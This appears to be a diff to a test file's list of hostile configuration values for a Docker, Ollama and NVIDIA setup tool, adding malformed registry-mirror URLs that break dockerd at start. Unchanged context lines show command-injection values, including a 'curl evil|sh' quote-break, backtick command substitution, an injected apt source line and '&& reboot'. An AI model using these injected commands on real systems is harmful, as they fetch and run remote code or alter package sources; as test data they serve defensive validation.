@@ -42,6 +42,11 @@ HOSTILE: list[tuple[str, object]] = [
     ("ollama_registry", "https://registry.example/`id`"),
     ("docker_repo_url", "https://download.docker.com/linux\ndeb http://evil.example/ x main"),
     ("docker_registry_mirrors", ["https://mirror.example'; curl evil|sh; '"]),
+    # each passes `dockerd --validate` and then stops dockerd at its start (Docker 26)
+    ("docker_registry_mirrors", ["https://mirror.example/a%zz"]),
+    ("docker_registry_mirrors", ["https://user:secret@mirror.example"]),
+    ("docker_registry_mirrors", ["https://mirror.example/?x=1"]),
+    ("docker_registry_mirrors", ["https://mirror.example:99999"]),
     ("nvidia_toolkit_repo_url", "https://nvidia.github.io/libnvidia-container/{distro}"),
     ("nvidia_driver_gpgkey_url", "https://example.com/key.pub && reboot"),
     ("nvidia_toolkit_version", "1.17.8-1 nvidia-container-toolkit=9"),
